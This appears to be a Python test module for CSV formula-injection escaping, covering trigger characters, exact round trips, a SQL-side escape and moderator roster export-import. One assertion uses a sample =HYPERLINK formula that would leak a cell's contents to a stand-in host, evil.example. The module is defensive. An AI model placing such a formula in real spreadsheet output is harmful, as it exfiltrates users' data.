"""Formula escaping of CSV cells: OWASP triggers neutralised, an exact round trip, and the SQL form agreeing."""

from __future__ import annotations

import csv
import io
from datetime import date

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from sqlalchemy import text

from pilots.csv_safety import escape, sql_escape, unescape
from pilots.exports.table import CsvBuffer, csv_cell
from pilots.ingestion import csv_rows, parse_csv_rows
from pilots.ingestion.fields import make_window
from pilots.roster.upload import parse_upload

# Text that exercises the rule: triggers, quotes, CSV metacharacters, and ordinary characters around them. No lone
# surrogates: they cannot be encoded, and neither JSON nor UTF-8 CSV bodies can carry one in.
TRICKY = st.text(
    alphabet=st.sampled_from(list("=+-@\t\r'\",\n a1é")) | st.characters(exclude_categories=["Cs"]), max_size=12
)


def test_triggers_are_quoted_and_everything_else_left_alone():
    assert (
        escape('=HYPERLINK("http://evil.example/?leak="&B2,"x")') == '\'=HYPERLINK("http://evil.example/?leak="&B2,"x")'
    )
    for value in ("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"):
        assert escape(value) == "'" + value
    for value in ("", "plain", "a=b", "1-2", " =x", "'", "''", "'x", "O'Brien"):
        assert escape(value) == value
    # A value that already looks escaped gains one more quote, so the import cannot confuse the two.
    assert escape("'=x") == "''=x"
    assert unescape("''=x") == "'=x"


def test_numbers_are_not_escaped():
    assert csv_cell(-1.5) == -1.5
    assert csv_cell(-3) == -3
    assert csv_cell("-3") == "'-3"


@given(TRICKY)
def test_unescape_inverts_escape(value):
    assert unescape(escape(value)) == value
    escaped = escape(value)
    assert not escaped or escaped[0] not in "=+-@\t\r"


@given(st.lists(st.lists(TRICKY, min_size=1, max_size=4), min_size=1, max_size=5))
def test_csv_file_round_trip_is_exact(rows):
    out = CsvBuffer()
    out.write([[csv_cell(cell) for cell in row] for row in rows])
    written = out.take().decode()
    back = [[unescape(cell) for cell in row] for row in csv.reader(io.StringIO(written, newline=""))]
    assert back == rows


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.text(alphabet=st.sampled_from(list("=+-@\t\r'x,é")), max_size=6))
def test_sql_escape_equals_escape_on_the_database(session, value):
    dialect = session.connection().dialect.name
    expression = sql_escape("CAST(:v AS TEXT)" if dialect == "sqlite" else "CAST(:v AS text)", dialect)
    assert session.execute(text(f"SELECT {expression}"), {"v": value}).scalar_one() == escape(value)
    assert session.execute(text(f"SELECT {sql_escape('CAST(NULL AS TEXT)', dialect)}")).scalar_one() is None


# Identifier-like text: printable, no surrounding spaces (CSV uploads strip cells), triggers and quotes likely.
IDS = st.text(alphabet=st.sampled_from(list("=+-@'\",ab1é ")), min_size=1, max_size=10).map(str.strip).filter(bool)


@settings(max_examples=150, deadline=None)
@given(st.lists(st.tuples(IDS, IDS, IDS, st.one_of(st.none(), st.integers(-5, 5))), min_size=1, max_size=8))
def test_roster_csv_export_uploads_back_to_the_same_rows(records):
    moderators = {}
    for moderator_id, team, site, shift in records:
        moderators.setdefault(moderator_id, (team, site, shift))
    columns = ["moderator_id", "team", "site", "language", "tenure_months", "shift"]
    out = CsvBuffer()
    out.write([columns])
    out.write([[csv_cell(v) for v in (m, t, s, None, 12.5, shift)] for m, (t, s, shift) in moderators.items()])
    rows = parse_upload(out.take(), "text/csv")
    assert [(r.moderator_id, r.team, r.site, r.attributes.get("shift")) for r in rows] == [
        (m, t, s, shift) for m, (t, s, shift) in moderators.items()
    ]


@settings(max_examples=150, deadline=None)
@given(st.lists(st.tuples(IDS, IDS, st.one_of(st.none(), IDS)), min_size=1, max_size=8, unique_by=lambda r: r[0]))
def test_outcome_csv_export_ingests_back_to_the_same_values(records):
    moderators = frozenset(m for _, m, _ in records)
    window = make_window(moderators, date(2026, 1, 1), date(2026, 3, 1))
    out = CsvBuffer()
    out.write([["audit_id", "moderator_id", "audited_at", "correct", "policy", "handle_time_s"]])
    out.write([[csv_cell(v) for v in (a, m, "2026-02-01T10:00:00Z", True, p, 1.5)] for a, m, p in records])
    layout, rows = csv_rows(out.take())
    batch = parse_csv_rows(rows, layout, window)
    assert [(v[0], v[1], v[7]) for v in batch.values] == [(a, m, p) for a, m, p in records]
